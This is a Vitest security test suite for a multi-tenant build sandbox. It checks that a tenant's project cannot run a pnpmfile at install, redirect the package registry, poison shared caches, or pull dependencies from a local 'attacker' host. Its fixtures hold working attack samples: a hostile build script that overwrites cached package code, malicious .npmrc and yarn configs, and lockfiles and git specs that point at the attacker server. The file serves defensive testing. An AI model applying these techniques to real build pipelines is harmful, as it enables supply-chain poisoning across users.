import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findExecutable } from '../../src/sandbox/create-sandbox.js';
import { buildToEnd, startTestApp, type TestApp } from '../support/harness.js';
import { ScriptedEngine } from '../support/scripted-engine.js';

/**
 * A tenant's project tries to run code during install, change the registry, and poison the
 * shared caches another tenant's build then reuses. None of it may work.
 */
const hasBwrap = findExecutable('bwrap', process.env.PATH ?? '') !== undefined;
const kinds = hasBwrap ? ['bwrap', 'process'] : ['process'];

describe.each(kinds)('dependency installs across tenants (%s sandbox)', (kind) => {
  let t: TestApp;
  let engine: ScriptedEngine;
  let attacker: Server;
  let hits = 0;
  let attackerUrl = '';
  const marker = path.join(tmpdir(), `sheen-pnpmfile-${kind}-${process.pid}-${Date.now()}`);

  const manifest = (extra: Record<string, unknown> = {}) =>
    JSON.stringify({
      name: 'tenant-app',
      version: '1.0.0',
      private: true,
      scripts: { build: 'node build.mjs' },
      dependencies: { 'is-number': '7.0.0' },
      ...extra,
    });

  // The build step runs project code by design; it reports what it could touch.
  const hostileBuild = `
    import fs from 'node:fs';
    import path from 'node:path';
    const out = [];
    const entry = fs.realpathSync('node_modules/is-number/index.js');
    const tryWrite = (label, p) => {
      try { fs.writeFileSync(p, 'module.exports = () => "POISONED";'); out.push(label + '=written'); }
      catch (e) { out.push(label + '=' + e.code); }
    };
    tryWrite('cached-tree', entry);
    const cacheRoot = path.resolve(path.dirname(entry), '../../../../..');
    for (const store of ['pnpm-store', 'yarn', 'npm']) {
      fs.mkdir(path.join(cacheRoot, store, 'x'), { recursive: true }, () => {});
      tryWrite(store, path.join(cacheRoot, store, 'poison.js'));
    }
    fs.mkdirSync('dist', { recursive: true });
    fs.writeFileSync('dist/index.html', out.join('\\n'));
  `;
  const victimBuild = `
    import fs from 'node:fs';
    import { createRequire } from 'node:module';
    const isNumber = createRequire(import.meta.url)('is-number');
    const source = fs.readFileSync('node_modules/is-number/index.js', 'utf8');
    fs.mkdirSync('dist', { recursive: true });
    fs.writeFileSync('dist/index.html', 'isNumber=' + isNumber(42) + ' poisoned=' + source.includes('POISONED'));
  `;

  const preview = async (buildId: string) =>
    (await t.app.inject({ method: 'GET', url: `/preview/${buildId}/` })).body;

  beforeAll(async () => {
    attacker = createServer((_req, res) => {
      hits++;
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`;
    engine = new ScriptedEngine({});
    // NPM_REGISTRY deliberately unset: the worker's default registry must still win.
    t = await startTestApp({ engine, workers: true, env: { SANDBOX: kind }, coldInstalls: true });
  });

  afterAll(async () => {
    await t?.close();
    attacker?.close();
  });

  it('ignores project package-manager config, runs no pnpmfile and keeps the worker registry', async () => {
    engine.files = {
      'package.json': manifest({ packageManager: 'pnpm@10.34.9' }),
      '.pnpmfile.cjs': `require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran'); module.exports = { hooks: {} };`,
      '.npmrc': `registry=${attackerUrl}/\nscript-shell=/bin/false\nignore-scripts=false\n`,
      '.yarnrc': `registry "${attackerUrl}/"\n`,
      '.yarnrc.yml': `yarnPath: ./evil.cjs\nnpmRegistryServer: "${attackerUrl}"\n`,
      'pnpm-workspace.yaml': `packages: ['.']\nconfigDependencies: {}\n`,
      'build.mjs': hostileBuild,
    };
    const ended = await buildToEnd(t, { userId: 'attacker', prompt: 'poison the cache' });
    expect(ended.status, JSON.stringify(ended.error)).toBe('succeeded');
    expect(existsSync(marker)).toBe(false);
    expect(hits).toBe(0);
    const ignored = ended.events
      .filter((e) => e.type === 'install.ignored')
      .map((e) => e.data.file);
    expect(ignored).toEqual(
      expect.arrayContaining([
        '.pnpmfile.cjs',
        '.npmrc',
        '.yarnrc',
        '.yarnrc.yml',
        'pnpm-workspace.yaml',
        'package.json#packageManager',
      ]),
    );
    const report = await preview(ended.buildId);
    expect(report).toMatch(/cached-tree=(EROFS|EACCES|EPERM)/);
    for (const store of ['pnpm-store', 'yarn', 'npm'])
      expect(report).not.toContain(`${store}=written`);
  }, 180_000);

  it('another tenant with the same dependencies reuses a tree the attacker could not change', async () => {
    engine.files = {
      'package.json': manifest({ packageManager: 'pnpm@10.34.9' }),
      'build.mjs': victimBuild,
    };
    const ended = await buildToEnd(t, { userId: 'victim', prompt: 'my app' });
    expect(ended.status, JSON.stringify(ended.error)).toBe('succeeded');
    const done = ended.events.find((e) => e.type === 'install.done');
    expect(done?.data.reused).toBe(true);
    expect(await preview(ended.buildId)).toBe('isNumber=true poisoned=false');
  }, 180_000);

  it.each([
    [
      'package-lock.json',
      (url: string) =>
        JSON.stringify({
          name: 'tenant-app',
          version: '1.0.0',
          lockfileVersion: 3,
          requires: true,
          packages: {
            '': { name: 'tenant-app', version: '1.0.0', dependencies: { 'is-number': '7.0.0' } },
            'node_modules/is-number': {
              version: '7.0.0',
              resolved: `${url}/is-number-7.0.0.tgz`,
              integrity: 'sha512-AAAA',
            },
          },
        }),
    ],
    [
      'yarn.lock',
      (url: string) =>
        `is-number@7.0.0:\n  version "7.0.0"\n  resolved "${url}/is-number-7.0.0.tgz#abc"\n`,
    ],
    [
      'pnpm-lock.yaml',
      (url: string) =>
        `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      is-number:\n        specifier: 7.0.0\n        version: 7.0.0\npackages:\n  is-number@7.0.0:\n    resolution: {tarball: ${url}/is-number-7.0.0.tgz}\nsnapshots:\n  is-number@7.0.0: {}\n`,
    ],
  ])(
    'refuses a %s that fetches from another host, before anything runs',
    async (lockfile, body) => {
      hits = 0;
      engine.files = {
        'package.json': manifest(),
        [lockfile]: body(attackerUrl),
        'build.mjs': victimBuild,
      };
      const ended = await buildToEnd(t, { userId: 'attacker', prompt: 'fetch from my host' });
      expect(ended.status).toBe('failed');
      expect(ended.error.code).toBe('DEPENDENCY_SOURCE_REFUSED');
      expect(ended.error.message).toContain('127.0.0.1');
      expect(hits).toBe(0);
    },
    120_000,
  );

  it.each([
    ['a URL', (url: string) => `${url}/evil.tgz`],
    ['git', () => 'git+ssh://git@127.0.0.1/evil.git'],
    ['a GitHub shorthand', () => 'attacker/evil'],
  ])(
    'refuses a dependency from %s',
    async (_kind, spec) => {
      hits = 0;
      engine.files = {
        'package.json': manifest({ dependencies: { evil: spec(attackerUrl) } }),
        'build.mjs': victimBuild,
      };
      const ended = await buildToEnd(t, { userId: 'attacker', prompt: 'remote dependency' });
      expect(ended.status).toBe('failed');
      expect(ended.error.code).toBe('DEPENDENCY_SOURCE_REFUSED');
      expect(hits).toBe(0);
    },
    120_000,
  );

  it('reaches no host but the registry even when a lockfile format slips past the check', async () => {
    hits = 0;
    // lockfileVersion 1 keeps URLs under `dependencies`, which the pre-check does not read:
    // the egress proxy still refuses the connection.
    engine.files = {
      'package.json': manifest(),
      'package-lock.json': JSON.stringify({
        name: 'tenant-app',
        version: '1.0.0',
        lockfileVersion: 1,
        requires: true,
        dependencies: {
          'is-number': {
            version: '7.0.0',
            resolved: `${attackerUrl}/is-number-7.0.0.tgz`,
            integrity: 'sha512-AAAA',
          },
        },
      }),
      'build.mjs': victimBuild,
    };
    const ended = await buildToEnd(t, { userId: 'attacker', prompt: 'old lockfile' });
    expect(hits).toBe(0);
    if (ended.status === 'failed') expect(ended.error.code).not.toBe('INTERNAL');
  }, 180_000);
});
